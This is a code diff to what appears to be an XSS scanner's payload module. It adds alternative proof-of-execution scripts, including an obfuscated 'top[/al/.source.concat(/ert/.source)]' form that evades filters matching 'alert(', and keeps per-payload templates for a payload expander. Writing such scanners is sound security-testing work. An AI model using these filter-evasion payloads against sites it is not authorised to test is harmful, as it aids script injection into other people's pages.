@@ -27,7 +27,13 @@ XSSMAP_PAYLOADS = []
 JAVASCRIPT_PLACEHOLDER = '{JAVASCRIPT}'
 TRIGGER_VALUE_PLACEHOLDER = '{TRIGGERVAL}'
 
-VERIFY_SCRIPTS = ["alert(" + TRIGGER_VALUE_PLACEHOLDER + ")"]
+# Scripts proving execution by alerting the trigger. Only the first goes into the payloads
+# below; PayloadExpander tries the others too, for filters keyed on "alert(". None has a
+# "+", which a query string or form body would decode to a space
+VERIFY_SCRIPTS = ["alert(" + TRIGGER_VALUE_PLACEHOLDER + ")",
+                  "(alert)(" + TRIGGER_VALUE_PLACEHOLDER + ")",
+                  "top[/al/.source.concat(/ert/.source)](" + \
+                          TRIGGER_VALUE_PLACEHOLDER + ")"]
 
 this_payload = {}
 this_payload['id'] = 1
@@ -143,5 +149,6 @@ for i, payload in enumerate(XSSMAP_PAYLOADS):
 
     s = XSSMAP_PAYLOADS[i]['string']
 
-    # Below is temporary, while len(VERIFY_SCRIPTS) is 1...
+    # The template keeps the placeholder for PayloadExpander to fill with other scripts
+    XSSMAP_PAYLOADS[i]['template'] = s
     XSSMAP_PAYLOADS[i]['string'] = s.replace(JAVASCRIPT_PLACEHOLDER, VERIFY_SCRIPTS[0])